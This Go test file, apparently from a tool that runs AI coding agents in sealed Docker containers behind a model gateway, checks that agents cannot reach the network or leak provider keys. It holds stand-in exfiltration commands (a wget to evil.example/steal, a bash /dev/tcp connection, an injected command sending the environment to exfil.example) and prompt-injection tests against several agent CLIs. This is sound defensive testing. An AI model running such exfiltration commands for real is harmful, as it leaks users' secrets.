package bot

import (
	"context"
	"io"
	"maps"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	botrun "github.com/alchemic-studio/alfred/bot/run"

	"github.com/docker/docker/api/types/container"
	"github.com/docker/docker/api/types/filters"
	"github.com/docker/docker/client"

	"github.com/alchemic-studio/alfred/agents"
	"github.com/alchemic-studio/alfred/agents/claudecode"
	"github.com/alchemic-studio/alfred/agents/codex"
	"github.com/alchemic-studio/alfred/agents/copilot"
	"github.com/alchemic-studio/alfred/agents/fake"
	"github.com/alchemic-studio/alfred/agents/gemini"
	"github.com/alchemic-studio/alfred/agents/grok"
	"github.com/alchemic-studio/alfred/agents/mockllm"
	"github.com/alchemic-studio/alfred/agents/opencode"
	"github.com/alchemic-studio/alfred/bot/lifecycle"
	"github.com/alchemic-studio/alfred/forges"
	"github.com/alchemic-studio/alfred/gateway"
	"github.com/alchemic-studio/alfred/sandbox"
	"github.com/alchemic-studio/alfred/state"
)

// buildForwarder builds cmd/alfred-forward static, as the agent image does,
// for bind-mounting into a busybox container (Seal.Forwarder): the test runs
// the forwarder of this tree, not a copy baked into an image earlier.
func buildForwarder(t *testing.T) string {
	t.Helper()
	bin := filepath.Join(t.TempDir(), "alfred-forward")
	cmd := exec.Command("go", "build", "-trimpath", "-o", bin, "../cmd/alfred-forward")
	cmd.Env = append(os.Environ(), "CGO_ENABLED=0")
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("build alfred-forward: %v\n%s", err, out)
	}
	if err := os.Chmod(bin, 0o755); err != nil {
		t.Fatal(err)
	}
	return bin
}

// TestSealedRunInDocker: with the model gateway on, an engine's run goes
// through it end to end in a real container. The container has no network
// device but lo and no provider key (docker inspect: environment and
// mounts); its "CLI" (busybox wget standing in for one, through the
// forwarder) reaches the mock model, the upstream provider on the host, with
// the run's token; a request to another host through the forwarder is
// refused and recorded on the run; after the run its token is refused.
func TestSealedRunInDocker(t *testing.T) {
	t.Parallel()
	runner, image := dockerRunner(t)
	mock := mockllm.Start(mockllm.Options{Reply: "hello from the mock"})
	t.Cleanup(mock.Close)
	const providerKey = "sk-ant-provider-key-0123456789"
	g, gwDir := testGateway(t, gateway.Anthropic(mock.URL, providerKey))
	fwd := buildForwarder(t)

	S := fake.SessionStatePath
	script := strings.Join([]string{
		// The model, as a CLI calls it: its base URL and its "key".
		`wget -q -O ` + S + `/model --header "x-api-key: $FAKE_API_KEY" --header 'content-type: application/json' --header 'anthropic-version: 2023-06-01' ` +
			`--post-data '{"model":"mock","max_tokens":16,"messages":[{"role":"user","content":"hi"}]}' "$FAKE_BASE_URL/v1/messages" 2>` + S + `/model.err; echo $? > ` + S + `/model.rc`,
		// Elsewhere, through the forwarder used as a proxy.
		`http_proxy=http://127.0.0.1:47080 wget -q -O ` + S + `/out http://evil.example/steal 2>` + S + `/out.err; echo $? > ` + S + `/out.rc`,
		// Straight out: no network.
		`wget -q -T 3 -O ` + S + `/direct http://1.1.1.1/ 2>` + S + `/direct.err; echo $? > ` + S + `/direct.rc`,
		`tail -n +3 /proc/net/dev | wc -l > ` + S + `/links`,
		`echo "$FAKE_API_KEY" > ` + S + `/token`,
		`sleep 2`, // time for docker inspect
	}, "; ")
	h := newHarness(t, func(s *setup) {
		fa, err := fake.New(fake.Options{ResumableSessions: true, Reply: analysisReply, Exec: []string{"sh", "-c", script}, Sealed: true})
		if err != nil {
			t.Fatal(err)
		}
		s.adapter = &scripted{Adapter: fa}
		s.runner = "image"
		s.installation = &state.AgentInstallation{Runner: "image", Image: image, Version: fake.Version, ResumableSessions: true}
	})
	h.engine.Close()
	cfg := h.engine.cfg
	cfg.Runner, cfg.Sandbox.Image, cfg.Sandbox.UID, cfg.Sandbox.GID = runner, image, 1000, 1000
	cfg.Seal = &botrun.Seal{Gateway: g, Forwarder: fwd}
	e := h.startWith(cfg)

	// docker inspect of the run's container, while it runs.
	dc, err := client.NewClientWithOpts(client.FromEnv, client.WithHost(os.Getenv("ALFRED_TEST_DOCKER_HOST")), client.WithAPIVersionNegotiation())
	if err != nil {
		t.Fatal(err)
	}
	defer dc.Close()
	var (
		mu        sync.Mutex
		inspected *container.InspectResponse
	)
	stop := make(chan struct{})
	watched := make(chan struct{})
	go func() {
		defer close(watched)
		for {
			select {
			case <-stop:
				return
			case <-time.After(100 * time.Millisecond):
			}
			list, err := dc.ContainerList(context.Background(), container.ListOptions{Filters: filters.NewArgs(filters.Arg("label", "alfred.mailbox"))})
			if err != nil {
				continue
			}
			for _, c := range list {
				// This test's run: its socket comes from this test's gateway.
				if !slices.ContainsFunc(c.Mounts, func(m container.MountPoint) bool { return strings.HasPrefix(m.Source, gwDir+"/") }) {
					continue
				}
				in, err := dc.ContainerInspect(context.Background(), c.ID)
				if err == nil && in.Config != nil {
					mu.Lock()
					inspected = &in
					mu.Unlock()
					return
				}
			}
		}
	}()

	h.openIssue(7, "Add a greeting", "type::task")
	h.send(forges.Event{Type: forges.EventIssueAssigned, Actor: "alice", Assignee: "alfred", Target: h.issueTarget(7), Labels: []string{"type::task"}})
	mb := h.waitStatus(7, lifecycle.StatusWaitingValidation)
	close(stop)
	<-watched

	dir := e.cfg.Sessions.Dir(mb, fake.ID)
	read := func(name string) string {
		b, err := os.ReadFile(filepath.Join(dir, name))
		if err != nil {
			t.Errorf("the agent's file %s: %v", name, err)
		}
		return strings.TrimSpace(string(b))
	}
	if rc, body := read("model.rc"), read("model"); rc != "0" || !strings.Contains(body, "hello from the mock") {
		t.Errorf("the model through the gateway: rc %s, %q, stderr %q", rc, body, read("model.err"))
	}
	if rc := read("out.rc"); rc == "0" || !strings.Contains(read("out.err"), "403") {
		t.Errorf("a request elsewhere through the forwarder was not refused: rc %s, %q", rc, read("out.err"))
	}
	if rc := read("direct.rc"); rc == "0" {
		t.Errorf("the container reached the network directly")
	}
	if n := read("links"); n != "1" {
		t.Errorf("the container has %s network devices, want only lo", n)
	}
	token := read("token")
	if !strings.HasPrefix(token, "alfred-run-") {
		t.Errorf("the CLI's key is %q, not a run token", token)
	}
	var got []string
	for _, r := range mock.Requests() {
		got = append(got, r.Path+" "+r.Header.Get("X-Api-Key"))
	}
	if len(got) != 1 || got[0] != "/v1/messages "+providerKey+" [redacted]" { // the mock keeps a header's first word

		t.Errorf("the mock model saw %q, want one request with the provider's key", got)
	}

	mu.Lock()
	in := inspected
	mu.Unlock()
	if in == nil {
		t.Fatal("the run's container was never inspected")
	}
	if in.HostConfig.NetworkMode != "none" {
		t.Errorf("network %q, want none", in.HostConfig.NetworkMode)
	}
	var sock bool
	for _, m := range in.Mounts {
		if strings.Contains(m.Source+m.Destination, providerKey) || strings.Contains(m.Source+m.Destination, "sk-very-secret") {
			t.Errorf("a mount names a key: %+v", m)
		}
		if m.Destination == gateway.ContainerSocket && m.RW {
			sock = true
		}
		if m.Destination == botrun.ForwarderPath && m.RW {
			t.Error("the forwarder is mounted read-write")
		}
	}
	if !sock {
		t.Errorf("no read-write socket at %s: %+v", gateway.ContainerSocket, in.Mounts)
	}
	for _, kv := range in.Config.Env {
		if strings.Contains(kv, providerKey) || strings.Contains(kv, "sk-very-secret") {
			t.Errorf("the container's environment holds a provider key: %s", kv)
		}
	}
	if argv := strings.Join(append(slices.Clone(in.Config.Entrypoint), in.Config.Cmd...), " "); !strings.HasPrefix(argv, botrun.ForwarderPath+" -port 47080 -socket "+gateway.ContainerSocket+" -- sh -c ") {
		t.Errorf("the container's command %q", argv)
	}

	// The run's record: the gateway's usage and the refusal.
	runs, err := h.store.Runs(mb.ID)
	if err != nil || len(runs) != 1 {
		t.Fatalf("runs %v %v", runs, err)
	}
	rg := runs[0].Gateway
	if rg == nil || rg.Requests != 1 || rg.InputTokens == 0 || rg.OutputTokens == 0 || rg.RefusedTotal != 1 ||
		len(rg.Refused) != 1 || !strings.Contains(rg.Refused[0], "the agent tried to reach evil.example/steal (GET): refused") {
		t.Errorf("the run's gateway record: %+v", rg)
	}
	if strings.Contains(runs[0].Log, token) || strings.Contains(runs[0].Log, providerKey) {
		t.Error("the run's log shows the run token or the key")
	}

	// After the run: its socket is gone, and its token is refused by the
	// gateway (on another run's socket too).
	if entries, _ := os.ReadDir(gwDir); len(entries) != 0 {
		t.Errorf("the run's session folder is left: %v", entries)
	}
	other, err := g.Open("another-run")
	if err != nil {
		t.Fatal(err)
	}
	defer other.Close()
	hc := &http.Client{Transport: &http.Transport{DialContext: func(ctx context.Context, _, _ string) (net.Conn, error) {
		return (&net.Dialer{}).DialContext(ctx, "unix", other.SocketPath())
	}}}
	req, _ := http.NewRequest("POST", "http://127.0.0.1:47080/anthropic/v1/messages", strings.NewReader(`{"model":"mock","max_tokens":16,"messages":[{"role":"user","content":"hi"}]}`))
	req.Header.Set("x-api-key", token)
	resp, err := hc.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusUnauthorized {
		t.Errorf("the ended run's token on another run's socket: %d %s", resp.StatusCode, body)
	}
	if n := len(mock.Requests()); n != 1 {
		t.Errorf("the mock saw %d requests, want still 1", n)
	}
}

// TestSealedClaudeCodeInDocker: the real Claude Code of the agent image
// (ALFRED_TEST_AGENT_IMAGE; the forwarder bind-mounted, since the image was
// built before it had one) runs an analysis through the gateway with no
// network, and the engine takes its plan; the mock model saw the provider's
// key, the run records the gateway's figures.
func TestSealedClaudeCodeInDocker(t *testing.T) {
	t.Parallel()
	runner, image := agentImageRunner(t)
	mock := mockllm.Start(mockllm.Options{Reply: analysisReply})
	t.Cleanup(mock.Close)
	const providerKey = "sk-ant-provider-key-0123456789"
	g, _ := testGateway(t, gateway.Anthropic(mock.URL, providerKey))
	claude, err := claudecode.New()
	if err != nil {
		t.Fatal(err)
	}
	h := newHarness(t, func(s *setup) {
		s.adapters[claudecode.ID] = claude
		s.settings = append(s.settings, projectSetting("AGENT_ADAPTER", claudecode.ID), projectSetting("RUN_TIMEOUT", "3m"))
	})
	h.engine.Close()
	cfg := h.engine.cfg
	inAgentImage(&cfg, runner, image, map[string]string{"ANTHROPIC_API_KEY": "sk-offered-key-0123456789"}) // withheld by the seal
	cfg.Seal = &botrun.Seal{Gateway: g, Forwarder: buildForwarder(t)}
	h.startWith(cfg)

	h.openIssue(7, "Add a greeting", "type::task")
	h.send(forges.Event{Type: forges.EventIssueAssigned, Actor: "alice", Assignee: "alfred", Target: h.issueTarget(7), Labels: []string{"type::task"}})
	mb := h.waitStatus(7, lifecycle.StatusWaitingValidation)
	runs, err := h.store.Runs(mb.ID)
	if err != nil || len(runs) != 1 {
		t.Fatalf("runs %v %v", runs, err)
	}
	run := runs[0]
	if run.Status != state.RunSucceeded || run.AdapterID != claudecode.ID {
		t.Fatalf("run %s %s: %s\n%s", run.AdapterID, run.Status, run.Outcome, run.Log)
	}
	reqs := mock.Requests()
	if len(reqs) == 0 {
		t.Fatal("the mock model saw no request")
	}
	for _, r := range reqs {
		if k := r.Header.Get("X-Api-Key"); k != providerKey+" [redacted]" {
			t.Errorf("the mock saw key %q on %s", k, r.Path)
		}
	}
	rg := run.Gateway
	if rg == nil || rg.Requests != int64(len(reqs)) || rg.InputTokens == 0 || rg.OutputTokens == 0 {
		t.Errorf("the run's gateway record %+v, the mock saw %d requests", rg, len(reqs))
	}
	t.Logf("claude through the gateway: %d requests, gateway %+v, refused %v", len(reqs), rg, rg.Refused)
}

// sealedCLI is a CLI of the agent image that runs there, with the model a
// sealed run of it names, what else is offered to it, and what its own
// usage figures are next to the gateway's.
type sealedCLI struct {
	new             func() (*agents.Local, error)
	provider, model string
	env             map[string]string
	usage           usageReport
	// shellMangles: the CLI's shell tool in the image does not run the
	// injected script as written, so its request never reaches the
	// gateway to be refused (the direct attempt and the absence of any
	// key are still checked; agents.TestRealSealed shows the refusal on
	// the host).
	shellMangles bool
}

// sealedCLIs are the six CLIs of the agent image, each sealed there (the
// Gemini CLI with the settings its adapter writes into the run's home).
//
// Their usage figures, as the versions of the image print them:
//   - Claude Code: the result event's usage is the invocation's, summed
//     over its model requests, also on a resume (input_tokens plus the
//     cache tokens, which the mock never reports).
//   - Codex: turn.completed's usage is the thread's running total, which a
//     resumed thread takes up from its rollout: on a resume it is the
//     earlier runs' tokens plus this run's (e.g. 20/2 after two runs of
//     10/1).
//   - OpenCode: its step-finish events' tokens, this run's steps only.
//     Without a named session (no --title) it also asks its small model
//     for the session's title (one more request the gateway meters), whose
//     tokens are in no step.
//   - Copilot CLI (1.0.102): its JSON output leaves out assistant.usage and
//     session.usage_info (the events cli-main.js never prints), its
//     assistant.message events carry no outputTokens and its result's usage
//     holds only premium requests and durations: no tokens.
//   - Gemini CLI: its result's stats are the invocation's.
//   - Grok: prints the conversation's messages and no usage.
var sealedCLIs = []sealedCLI{
	{new: claudecode.New, provider: "anthropic", model: "claude-sonnet-4-5", usage: usagePerRun},
	{new: codex.New, provider: "openai", model: "gpt-5", usage: usageSessionTotal},
	{new: opencode.New, provider: "openai", model: "gpt-5", env: map[string]string{"OPENCODE_DISABLE_MODELS_FETCH": "1"}, usage: usageSteps},
	{new: copilot.New, provider: "openai", model: "gpt-5", usage: usageNone},
	// Gemini 0.61.0's run_shell_command, in the image, runs the first
	// "bash -c '...'" of the injected line as a file name ("line 4: exec
	// 3<>/dev/tcp/...: No such file or directory"); on the host it runs it.
	{new: gemini.New, provider: "gemini", model: "gemini-2.5-flash", usage: usagePerRun, shellMangles: true},
	{new: grok.New, provider: "xai", model: "grok-code-fast-1", usage: usageNone},
}

// directAttempt tries to reach the outside without the forwarder.
const directAttempt = `; timeout 5 bash -c 'exec 4<>/dev/tcp/1.1.1.1/80' 2>/dev/null && echo "direct: connected" || echo "direct: no network"`

// TestSealedCLIsInDocker: each CLI of the agent image runs sealed by the
// engine (Engine.seal and unseal) in a container with no network, its
// development phase through the gateway: the answer comes back, the mock
// model saw the provider's key on every request, the run records what the
// gateway metered, and the container's environment held the run's token
// and no key. Prompt-injected to send its environment to exfil.example, the
// agent's request through the forwarder is refused and recorded on the run,
// a direct connection finds no network, and no output shows a key. Then a
// run and a resume of the same named session, both sealed
// (sealedResumeInDocker). On every run, the CLI's own token figures agree
// with the gateway's as the CLI's usageReport says (checkMetering).
func TestSealedCLIsInDocker(t *testing.T) {
	t.Parallel()
	runner, image := agentImageRunner(t)
	fwd := buildForwarder(t)
	for _, c := range sealedCLIs {
		a, err := c.new()
		if err != nil {
			t.Fatal(err)
		}
		t.Run(a.ID(), func(t *testing.T) {
			t.Parallel()
			for _, inject := range []bool{false, true} {
				t.Run(map[bool]string{false: "answer", true: "prompt injection"}[inject], func(t *testing.T) {
					sealedInDocker(t, runner, image, fwd, a, c, inject)
				})
			}
			t.Run("run and resume", func(t *testing.T) {
				sealedResumeInDocker(t, runner, image, fwd, a, c)
			})
		})
	}
}

// agentImage is the agent image scripts/images.sh built; it fails the test
// without one (but under -short).
func agentImage(t *testing.T) string {
	t.Helper()
	return requireEnv(t, "ALFRED_TEST_AGENT_IMAGE", "build the images with scripts/images.sh and source what it prints")
}

// agentImageRunner is the test daemon's runner (dockerRunner) and the agent
// image (agentImage).
func agentImageRunner(t *testing.T) (sandbox.Runner, string) {
	t.Helper()
	runner, _ := dockerRunner(t)
	return runner, agentImage(t)
}

// agentEnv is the environment of the agent image's user, extra over it.
func agentEnv(extra map[string]string) map[string]string {
	env := map[string]string{"HOME": "/home/agent", "PATH": "/usr/local/bin:/usr/bin:/bin", "LANG": "C.UTF-8"}
	maps.Copy(env, extra)
	return env
}

// inAgentImage has the engine of cfg run its agents in image on runner, as
// the image's user, in agentEnv(extra).
func inAgentImage(cfg *Config, runner sandbox.Runner, image string, extra map[string]string) {
	cfg.Runner, cfg.Sandbox.Image, cfg.Sandbox.UID, cfg.Sandbox.GID = runner, image, 1000, 1000
	cfg.Sandbox.Env = agentEnv(extra)
}

// The keys of a sealed Docker run: the one the gateway holds, and the one
// the bot's environment offers (which the seal withholds).
const (
	dockerProviderKey = "sk-provider-key-in-the-gateway-0123456789"
	dockerOfferedKey  = "sk-offered-key-in-the-bot-0123456789"
)

// sealedInDocker runs one development phase of a, sealed, in the agent
// image, and checks it.
func sealedInDocker(t *testing.T, runner sandbox.Runner, image, fwd string, a *agents.Local, c sealedCLI, inject bool) {
	opts := mockllm.Options{Reply: "hello from the sealed container"}
	if inject {
		opts.Shell = mockllm.ExfilCommand(gateway.DefaultForwardPort) + directAttempt
	}
	mock := mockllm.Start(opts)
	t.Cleanup(mock.Close)
	e, g := sealingEngine(t, runner, fwd, c.provider, mock.URL)
	spec := sealedSpec(t, image, a.Descriptor(), c.env)
	runID := "run-" + a.ID()
	s, err := e.seal(runID, Scope{}, a, &spec)
	if err != nil || s == nil {
		t.Fatalf("seal: %v, %v", s, err)
	}
	if err := e.configure(t.TempDir(), a, &spec); err != nil {
		t.Fatal(err)
	}
	rec := &specRecorder{Runner: runner}
	res, err := a.Run(context.Background(), agents.Request{Prompt: "Say hello.", Phase: agents.PhaseDevelopment,
		Provider: c.provider, Model: c.model, Timeout: 4 * time.Minute, Sandbox: spec, Runner: rec})
	run := &state.Run{ID: runID}
	e.unseal(s, run)
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("%s sealed in docker: %s %q, %d model requests, gateway %+v", a.ID(), res.Outcome, res.Text, len(mock.Requests()), run.Gateway)
	if res.Outcome != agents.OutcomeSucceeded || res.Text != opts.Reply {
		t.Fatalf("outcome %s %q\nstdout %s\nstderr %s\nunhandled %v", res.Outcome, res.Text, res.Stdout, res.Stderr, mock.Unhandled())
	}
	checkSealedContainer(t, rec.spec(), s.Token())
	checkSealedModel(t, mock.Requests(), run.Gateway)
	checkMetering(t, a.ID(), c.usage, sealedTurn{res: res, rg: run.Gateway, reqs: mock.Requests()}, nil)
	checkNoKey(t, res, mock)
	if inject {
		checkInjection(t, mock, run.Gateway, !c.shellMangles)
	} else if run.Gateway.RefusedTotal != 0 {
		t.Errorf("refusals %v", run.Gateway.Refused)
	}
	if _, err := g.Open(runID); err != nil { // the run's session is closed: its id is free again
		t.Errorf("reopen %s: %v", runID, err)
	}
}

// sealingEngine is an engine that seals runs on runner behind a gateway
// whose provider is the mock, with dockerProviderKey.
func sealingEngine(t *testing.T, runner sandbox.Runner, fwd, provider, mockURL string) (*Engine, *gateway.Gateway) {
	t.Helper()
	p, ok := gateway.ProviderNamed(provider, mockURL, dockerProviderKey)
	if !ok {
		t.Fatalf("no gateway provider %q", provider)
	}
	g, _ := testGateway(t, p)
	return engineSealedBy(t, g, runner, fwd), g
}

// testGateway is a gateway serving p and the folder of its sockets, short
// and where the Docker daemon sees it, closed and removed with the test.
func testGateway(t *testing.T, p gateway.Provider) (*gateway.Gateway, string) {
	t.Helper()
	dir, err := os.MkdirTemp("", "gw")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	g, err := gateway.New(gateway.Options{Providers: []gateway.Provider{p}, Dir: dir})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { g.Close() })
	return g, dir
}

// sealedSpec is the spec a run of d starts from: the agent image, no
// network (AGENT_NETWORK none, which the engine seals), a writable
// worktree, and an offer holding every credential d's seal takes
// over (dockerOfferedKey).
func sealedSpec(t *testing.T, image string, d agents.Descriptor, extra map[string]string) sandbox.Spec {
	t.Helper()
	wt := t.TempDir()
	if err := os.Chmod(wt, 0o777); err != nil { // the agent's uid writes there
		t.Fatal(err)
	}
	env := agentEnv(extra)
	for _, k := range d.Sealed.Credentials {
		env[k] = dockerOfferedKey
	}
	return sandbox.Spec{Image: image, UID: 1000, GID: 1000, Env: env, Workdir: sandbox.WorkspacePath, Network: "none",
		Worktree: &sandbox.Mount{Host: wt, Container: sandbox.WorkspacePath}, Labels: map[string]string{"alfred.test": t.Name()}}
}

// specRecorder keeps the last spec it ran.
type specRecorder struct {
	sandbox.Runner
	mu   sync.Mutex
	last sandbox.Spec
}

func (r *specRecorder) Run(ctx context.Context, spec sandbox.Spec) (*sandbox.Result, error) {
	r.mu.Lock()
	r.last = spec
	r.mu.Unlock()
	return r.Runner.Run(ctx, spec)
}

func (r *specRecorder) spec() sandbox.Spec {
	r.mu.Lock()
	defer r.mu.Unlock()
	return r.last
}

// checkSealedContainer: no network, the forwarder in front, the socket
// mounted, the token in the environment and no key.
func checkSealedContainer(t *testing.T, spec sandbox.Spec, token string) {
	t.Helper()
	if spec.Network != "none" || len(spec.Prefix) == 0 || spec.Prefix[0] != botrun.ForwarderPath {
		t.Errorf("network %q, command prefix %q", spec.Network, spec.Prefix)
	}
	if !slices.ContainsFunc(spec.Binds, func(m sandbox.Mount) bool { return m.Container == gateway.ContainerSocket }) {
		t.Errorf("no socket mounted: %+v", spec.Binds)
	}
	sawToken := false
	for k, v := range spec.Env {
		if strings.Contains(v, dockerProviderKey) || strings.Contains(v, dockerOfferedKey) {
			t.Errorf("the container's environment holds a key in %s", k)
		}
		sawToken = sawToken || v == token
	}
	if !sawToken {
		t.Errorf("the run's token is not in the container's environment: %v", slices.Sorted(maps.Keys(spec.Env)))
	}
}

// The usage the mock reports for each model request: its answers and its
// shell calls (Options.Shell), in every API.
const mockInputTokens, mockOutputTokens = 10, 1

// checkSealedModel: every model request of a run (reqs) came with the
// provider's key, and
// the run records what the gateway metered (the mock says 10 input and 1
// output tokens a request).
func checkSealedModel(t *testing.T, reqs []mockllm.Request, rg *state.RunGateway) {
	t.Helper()
	for _, r := range reqs {
		if r.Key != dockerProviderKey {
			t.Errorf("the mock saw %s with key %q", r.Path, r.Key)
		}
	}
	n := int64(len(reqs))
	if rg == nil || n == 0 || rg.Requests != n || rg.InputTokens != mockInputTokens*n || rg.OutputTokens != mockOutputTokens*n {
		t.Errorf("the run's gateway record %+v, the mock saw %d requests", rg, n)
	}
}

// checkNoKey: no output of the CLI, nor anything the model was sent, shows
// a key.
func checkNoKey(t *testing.T, res *agents.Result, mock *mockllm.Server) {
	t.Helper()
	out := string(res.Stdout) + string(res.Stderr)
	for _, r := range mock.Requests() {
		out += r.ToolOutput + r.LastUserText
	}
	if strings.Contains(out, dockerProviderKey) || strings.Contains(out, dockerOfferedKey) {
		t.Error("a key shows in the CLI's output or in what the model was sent")
	}
}

// checkInjection: the injected command ran; its request through the
// forwarder was refused and recorded on the run; it found no network.
func checkInjection(t *testing.T, mock *mockllm.Server, rg *state.RunGateway, reached bool) {
	t.Helper()
	out := ""
	for _, r := range mock.Requests() {
		out += r.ToolOutput
	}
	if !strings.Contains(out, "direct: no network") {
		t.Errorf("the injected command's output %q: want no network for a direct connection", out)
	}
	if !reached {
		t.Logf("the CLI's shell did not run the request to the gateway as written; output %q", out)
		return
	}
	if !strings.Contains(out, "403") || !strings.Contains(out, "exfil.example is not an allowed destination") {
		t.Errorf("the injected command's output %q: want the gateway's refusal", out)
	}
	if rg == nil || rg.RefusedTotal == 0 || !strings.Contains(strings.Join(rg.Refused, "\n"), "the agent tried to reach exfil.example/steal (POST): refused") {
		t.Errorf("the run's refusals %+v", rg)
	}
}
